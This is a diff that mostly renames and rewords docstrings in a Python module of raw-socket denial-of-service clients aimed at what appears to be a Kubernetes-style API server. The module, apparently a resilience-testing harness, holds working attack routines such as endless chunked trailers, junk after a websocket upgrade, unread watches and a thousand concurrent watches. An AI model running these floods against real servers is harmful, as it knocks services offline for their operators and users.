@@ -1,4 +1,4 @@
-"""Clients that hold connections, do not stop sending, or do not read: on plain sockets, since no library would."""
+"""Clients that hold connections, send endlessly or do not read: on plain sockets, since no library does this."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ PIECE = b"a" * (64 << 10)
 
 @dataclass(frozen=True)
 class Target:
-    """A server and who attacks it."""
+    """A server, and the credentials of its attacker."""
 
     url: str
     token: str
@@ -35,17 +35,17 @@ class Target:
         return await asyncio.open_connection(host, port, ssl=context, limit=buffer)
 
     def head(self, method: str, path: str, *headers: str, known: bool = True) -> bytes:
-        """The beginning of a request; without a token where it is not `known`."""
-        given = [f"{method} {path.format(namespace=self.namespace)} HTTP/1.1", f"Host: {urlsplit(self.url).netloc}"]
-        given += [f"Authorization: Bearer {self.token}"] if known else []
-        return "\r\n".join([*given, *headers, "", ""]).encode()
+        """The request line and headers; without a token unless `known`."""
+        lines = [f"{method} {path.format(namespace=self.namespace)} HTTP/1.1", f"Host: {urlsplit(self.url).netloc}"]
+        lines += [f"Authorization: Bearer {self.token}"] if known else []
+        return "\r\n".join([*lines, *headers, "", ""]).encode()
 
 
 Run = Callable[[Target, float], Awaitable[None]]
 
 
-async def _endlessly(target: Target, beginning: bytes, piece: bytes, seconds: float) -> None:
-    """Send for as long as the server takes it; begin again when it hangs up."""
+async def _send_endlessly(target: Target, beginning: bytes, piece: bytes, seconds: float) -> None:
+    """Send for as long as the server reads; reconnect when it closes the connection."""
     with suppress(TimeoutError):
         async with asyncio.timeout(seconds):
             while True:
@@ -56,7 +56,9 @@ async def _endlessly(target: Target, beginning: bytes, piece: bytes, seconds: fl
                         while not writer.is_closing():
                             writer.write(piece)
                             await writer.drain()
-                            await asyncio.sleep(0)  # a closed connection drains at once, and the time would never be up
+                            await asyncio.sleep(
+                                0
+                            )  # a closed connection drains at once, and the timeout would never fire
                     finally:
                         writer.transport.abort()
                 await asyncio.sleep(0.05)
@@ -68,16 +70,16 @@ async def _at_once(count: int, work: Callable[[], Awaitable[None]]) -> None:
 
 async def endless_trailers(target: Target, seconds: float) -> None:
     head = target.head("POST", CONFIGMAPS, "Transfer-Encoding: chunked", known=False)
-    await _at_once(4, lambda: _endlessly(target, head + b"1\r\n{\r\n0\r\nX-Trailer: ", PIECE, seconds))
+    await _at_once(4, lambda: _send_endlessly(target, head + b"1\r\n{\r\n0\r\nX-Trailer: ", PIECE, seconds))
 
 
 async def junk_after_upgrade(target: Target, seconds: float) -> None:
     head = target.head("GET", "/api/v1/namespaces", "Connection: Upgrade", "Upgrade: websocket")
-    await _at_once(4, lambda: _endlessly(target, head, PIECE, seconds))
+    await _at_once(4, lambda: _send_endlessly(target, head, PIECE, seconds))
 
 
 async def bodies_before_authentication(target: Target, seconds: float) -> None:
-    """60 bodies of 3 MiB, of which the last byte is missing."""
+    """60 bodies of 3 MiB, each without its last byte."""
 
     async def one() -> None:
         with suppress(OSError, TimeoutError):
@@ -98,14 +100,14 @@ async def bodies_before_authentication(target: Target, seconds: float) -> None:
 
 
 async def pipelined_bodies(target: Target, seconds: float) -> None:
-    """Requests of 3 MiB, one after the other on each connection, without reading an answer."""
+    """Requests of 3 MiB, pipelined on each connection, without reading a response."""
     head = target.head("POST", CONFIGMAPS, "Content-Type: application/json", f"Content-Length: {BODY_BYTES}")
     body = b"[" + b" " * (BODY_BYTES - 2) + b"]"
-    await _at_once(4, lambda: _endlessly(target, b"", head + body, seconds))
+    await _at_once(4, lambda: _send_endlessly(target, b"", head + body, seconds))
 
 
 async def _watch(target: Target, seconds: float) -> None:
-    """Open a watch that begins with everything there is, and read nothing of it."""
+    """Open a watch that starts with all objects, and read nothing of it."""
     with suppress(OSError, TimeoutError):
         async with asyncio.timeout(seconds):
             _, writer = await target.connect(buffer=4096)
@@ -123,7 +125,7 @@ async def watchers_that_do_not_read(target: Target, seconds: float) -> None:
 
 async def thousand_watches(target: Target, seconds: float) -> None:
     async def one(number: int) -> None:
-        await asyncio.sleep(number * 0.002)  # handshakes of a thousand at once would measure the client
+        await asyncio.sleep(number * 0.002)  # a thousand simultaneous handshakes would measure the client
         await _watch(target, seconds)
 
     await asyncio.gather(*(one(number) for number in range(1000)))
@@ -140,7 +142,7 @@ CONNECTIONS: dict[str, Run] = {
 
 
 async def send_repeatedly(target: Target, attack: Attack, seconds: float) -> None:
-    """One request of an ordinary user after the other, two at a time."""
+    """Send one request of an ordinary user repeatedly, two at a time."""
     body = attack.body()
 
     async def one() -> None:
